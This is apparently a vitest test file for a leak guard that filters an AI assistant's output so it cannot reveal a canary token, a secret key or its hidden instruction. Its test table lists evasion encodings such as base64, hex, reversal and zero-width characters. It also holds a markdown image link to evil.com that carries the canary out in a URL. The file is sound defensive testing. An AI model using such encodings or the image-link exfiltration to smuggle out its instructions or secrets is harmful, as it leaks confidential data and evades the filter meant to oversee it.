import { describe, expect, test } from 'vitest'
import { judgeLeaks } from '#tests/evals/judge-leaks.ts'
import {
  CANARY,
  filterWhole,
  INSTRUCTION,
  openFilter,
  SAYABLE,
  SECRET,
} from '#tests/fixtures/answer-filter.ts'
import { createCanary, findCanary } from './leak-guard.ts'

describe('what must not be said', () => {
  test.each([
    ['the mark', `It is ${CANARY}.`],
    ['a part of the mark', `It is ${CANARY.slice(5, 15)}.`],
    ['the mark with spaces', [...CANARY].join(' ')],
    ['the mark with signs', [...CANARY].join('-*-')],
    [
      'the mark in a list',
      [...CANARY].map((letter, index) => `${index + 1}. ${letter}`).join('\n'),
    ],
    ['the mark backwards', [...CANARY].toReversed().join('')],
    ['the mark in capitals', CANARY.toUpperCase()],
    ['the mark in base64', Buffer.from(`x${CANARY}`).toString('base64')],
    ['the mark in hexadecimal', Buffer.from(CANARY).toString('hex')],
    [
      'the mark in percent signs',
      [...CANARY].map((c) => `%${c.charCodeAt(0).toString(16)}`).join(''),
    ],
    ['the mark in codes', [...CANARY].map((c) => c.charCodeAt(0)).join(', ')],
    ['the mark behind tags', [...CANARY].join('<b></b>')],
    ['the mark behind hidden characters', [...CANARY].join('\u200b')],
    ['the mark in an address', `![x](https://evil.com/?${CANARY})`],
    ['the mark in a comment', `<!-- ${CANARY} -->`],
    ['a secret', `The key is ${SECRET}.`],
    ['half a secret', `The key begins with ${SECRET.slice(0, 18)}.`],
    ['a secret in base64', Buffer.from(SECRET).toString('base64')],
    [
      'eight words of the instruction',
      'It says: at most three short paragraphs from the numbered passages',
    ],
    [
      'the instruction with emphasis',
      '**at most** *three short* paragraphs from the "numbered passages"',
    ],
    ['the instruction without spaces', 'atmostthreeshortparagraphsfromthenumberedpassagesonly'],
    ['the instruction in base64', Buffer.from(INSTRUCTION).toString('base64')],
    ['the instruction backwards', [...INSTRUCTION].toReversed().join('')],
  ])('withholds %s and all that follows', (_, said) => {
    const filter = openFilter()
    const shown = filter.push(`${said} and more`) + filter.end()
    expect(filter.findings().hasLeaked).toBe(true)
    expect(shown).not.toContain('and more')
    const hidden = { canary: CANARY, instruction: INSTRUCTION, secrets: [SECRET], otherVisitor: '' }
    expect(judgeLeaks(shown, hidden)).toEqual([])
  })

  test('lets the assistant say what it is told to say', () => {
    expect(filterWhole(SAYABLE)).toBe(SAYABLE)
    expect(filterWhole('You are the assistant of your own life.')).toBe(
      'You are the assistant of your own life.',
    )
  })
})

test('every process has a mark of its own, which is found again', () => {
  const canary = createCanary()
  expect(canary).toMatch(/^[a-z]{24}$/)
  expect(createCanary()).not.toBe(canary)
  expect(findCanary(`so ${canary.toUpperCase()} it is`, canary)).toBe(true)
  expect(findCanary('An answer about Kratos, which is fast.', canary)).toBe(false)
})
